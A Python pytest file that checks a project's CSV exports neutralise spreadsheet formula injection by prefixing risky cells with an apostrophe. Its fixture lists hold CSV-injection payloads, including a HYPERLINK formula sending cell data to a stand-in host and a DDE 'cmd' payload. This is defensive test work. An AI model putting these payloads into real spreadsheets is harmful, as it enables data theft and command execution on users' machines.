"""CSV for spreadsheets: text that a spreadsheet would run as a formula is written inert.

A cell that starts with = + - @ (or a tab or carriage return before one, per
OWASP's CSV-injection advice) is a formula to Excel, LibreOffice and Google
Sheets. Every CSV the project writes for spreadsheets (chart data, the CLI's
``--format csv``) prefixes such text with an apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from newinfra.cli.common import print_table
from newinfra.present import chart_output

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# Not at the start, but after a carriage return: a spreadsheet starts a new row there.
HIDDEN = ['safe\r=HYPERLINK("http://evil.example")', "safe\r\n@SUM(A1)"]
HARMLESS = ["plain text", "5G", ">=", "=", "-", "", "a=b"]


def _frame() -> pd.DataFrame:
    texts = HOSTILE + HARMLESS
    return pd.DataFrame(
        {
            "quote": texts,
            "value": [-5.5 - i for i in range(len(texts))],  # negative numbers, not text
            "year": list(range(2020, 2020 + len(texts))),
            "=label": pd.Categorical(texts),
        }
    )


def _read(csv: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(csv), keep_default_na=False)


def _written(text: str) -> str:
    """What a spreadsheet CSV holds for ``text``: a carriage return becomes a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _check_inert(back: pd.DataFrame) -> None:
    expected = [_written("'" + t) for t in HOSTILE] + HARMLESS
    assert back["quote"].tolist() == expected
    assert back["'=label"].tolist() == expected  # a header is a cell too
    assert back["value"].tolist() == [-5.5 - i for i in range(len(expected))]
    assert back["year"].dtype.kind == "i"


def test_chart_data_csv_is_inert():
    # Was: the chart's CSV kept =HYPERLINK(...) as a formula.
    fig = chart_output.new_figure(4, 3)
    fig.plotted = _frame()
    _check_inert(_read(chart_output.plotted_csv(fig)))


def test_saved_chart_csv_is_inert(tmp_path):
    fig = chart_output.new_figure(4, 3)
    fig.subplots().plot([1, 2], [1, 2])
    fig.plotted = _frame()
    chart_output.save(fig, tmp_path / "fig01.png")
    _check_inert(_read((tmp_path / "fig01.csv").read_text(encoding="utf-8")))


def test_table_output_is_inert_unless_raw(capsys):
    # Was: `targets --format csv` kept =HYPERLINK(...) as a formula.
    print_table(_frame(), "csv")
    _check_inert(_read(capsys.readouterr().out))
    plain = _frame().iloc[:4]  # no carriage returns: read back as written
    print_table(plain, "csv", raw=True)
    assert _read(capsys.readouterr().out)["quote"].tolist() == HOSTILE[:4]
    print_table(_frame(), "json")  # JSON is not for spreadsheets: as is
    assert pd.read_json(io.StringIO(capsys.readouterr().out))["quote"].tolist()[:1] == HOSTILE[:1]


def test_a_carriage_return_inside_text_starts_no_row(capsys):
    # Python's CSV writer leaves a lone CR unquoted; spreadsheets end the row there.
    print_table(pd.DataFrame({"quote": HIDDEN, "n": [1, 2]}), "csv")
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows == [["quote", "n"], [_written(HIDDEN[0]), "1"], [_written(HIDDEN[1]), "2"]]


@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_any_text_is_inert_and_recoverable(texts):
    fig = chart_output.new_figure(2, 2)
    fig.plotted = pd.DataFrame({"text": texts})
    header, *rows = csv.reader(io.StringIO(chart_output.plotted_csv(fig), newline=""))
    back = [row[0] for row in rows]
    for original, written in zip(texts, back, strict=True):
        if len(written) > 1:
            assert not written.startswith(("=", "+", "-", "@", "\t", "\r")), written
        assert written in (_written(original), _written("'" + original))


@pytest.mark.parametrize("value", [-1, -2.5, 0])
def test_numbers_stay_numbers(capsys, value):
    print_table(pd.DataFrame({"n": [value]}), "csv")
    assert capsys.readouterr().out == f"n\n{value}\n"
